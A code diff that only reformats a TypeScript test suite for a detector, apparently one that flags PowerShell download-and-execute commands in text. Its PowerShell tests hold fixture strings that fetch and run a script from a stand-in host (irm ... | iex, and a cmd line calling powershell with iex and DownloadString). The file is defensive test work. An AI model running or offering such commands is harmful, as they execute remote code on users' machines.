@@ -17,10 +17,17 @@ interface Row {
 
 const SET = "extended.v1";
 const read = (path: string): string => readFileSync(new URL(path, import.meta.url), "utf8");
-const linesOf = (path: string): string[] => read(path).trimEnd().split("\n").filter((line) => line !== "");
+const linesOf = (path: string): string[] =>
+  read(path)
+    .trimEnd()
+    .split("\n")
+    .filter((line) => line !== "");
 
 const rows = linesOf(`../../corpora/${SET}.jsonl`).map((line) => JSON.parse(line) as Row);
-const expected = JSON.parse(read("../../corpora/expected.extended.json")) as Record<string, unknown>;
+const expected = JSON.parse(read("../../corpora/expected.extended.json")) as Record<
+  string,
+  unknown
+>;
 /** Cases that the detector does not answer as labelled yet. */
 const notYet = linesOf("not-yet.txt");
 
@@ -35,7 +42,10 @@ const isOpen = ({ labels, spans }: Row): boolean => labels.length > 0 && spans.l
 function answered(row: Row): { readonly found: unknown; readonly wanted: unknown } {
   const { labels, spans } = detector.detect(row.text);
   const marked = (own: readonly Span[]): string => mark(row.text, isOpen(row) ? [] : own);
-  return { found: { labels, marked: marked(spans) }, wanted: { labels: row.labels, marked: marked(row.spans) } };
+  return {
+    found: { labels, marked: marked(spans) },
+    wanted: { labels: row.labels, marked: marked(row.spans) },
+  };
 }
 
 describe("the rows of the extended corpus", () => {
@@ -53,34 +63,56 @@ describe("the rows of the extended corpus", () => {
 
   it("have the expected totals by label", () => {
     const positive = rows.filter(({ labels }) => labels.length > 0).length;
-    expect(expected[SET]).toEqual({ rows: rows.length, PS: positive, none: rows.length - positive });
+    expect(expected[SET]).toEqual({
+      rows: rows.length,
+      PS: positive,
+      none: rows.length - positive,
+    });
   });
 
   it("hold each case that is named as not known yet, once", () => {
     const cases = new Set(rows.map((row) => row.case));
-    expect(notYet.filter((name, index) => !cases.has(name) || notYet.indexOf(name) !== index)).toEqual([]);
+    expect(
+      notYet.filter((name, index) => !cases.has(name) || notYet.indexOf(name) !== index),
+    ).toEqual([]);
   });
 
-  it.each(rows.filter((row) => !notYet.includes(row.case)).map((row) => [row.case, row] as const))("%s", (_case, row) => {
-    const { found, wanted } = answered(row);
-    expect(found).toEqual(wanted);
-  });
+  it.each(rows.filter((row) => !notYet.includes(row.case)).map((row) => [row.case, row] as const))(
+    "%s",
+    (_case, row) => {
+      const { found, wanted } = answered(row);
+      expect(found).toEqual(wanted);
+    },
+  );
 
-  it.each(rows.filter((row) => notYet.includes(row.case)).map((row) => [row.case, row] as const))("%s is not known yet; a row that has come right leaves not-yet.txt", (_case, row) => {
-    const { found, wanted } = answered(row);
-    expect(found).not.toEqual(wanted);
-  });
+  it.each(rows.filter((row) => notYet.includes(row.case)).map((row) => [row.case, row] as const))(
+    "%s is not known yet; a row that has come right leaves not-yet.txt",
+    (_case, row) => {
+      const { found, wanted } = answered(row);
+      expect(found).not.toEqual(wanted);
+    },
+  );
 });
 
 describe("the outcome of PowerShell", () => {
   const nested = `${"(".repeat(200)}irm https://x.example/i | iex${")".repeat(200)}`;
   const installer = `@"%SystemRoot%\\powershell.exe" -Command "iex ((New-Object Net.WebClient).DownloadString('https://x.example/i.ps1'))"`;
   it.each([
-    ["is incomplete where brackets nest too deep", `\`\`\`powershell\n${nested}\n\`\`\`\n`, ["depth", "syntax"]],
-    ["is complete where the text is of another language, which reads it", `\`\`\`cmd\n${installer}\n\`\`\`\n`, []],
+    [
+      "is incomplete where brackets nest too deep",
+      `\`\`\`powershell\n${nested}\n\`\`\`\n`,
+      ["depth", "syntax"],
+    ],
+    [
+      "is complete where the text is of another language, which reads it",
+      `\`\`\`cmd\n${installer}\n\`\`\`\n`,
+      [],
+    ],
   ])("%s", (_name, text, limits) => {
     const { labels, outcome } = detector.detect(text);
     expect(labels).toEqual(["PS"]);
-    expect(outcome.status === "incomplete" ? outcome.limits.map(({ limit }) => limit) : []).toEqual(limits);
+    expect(outcome.status === "incomplete" ? outcome.limits.map(({ limit }) => limit) : []).toEqual(
+      limits,
+    );
   });
 });
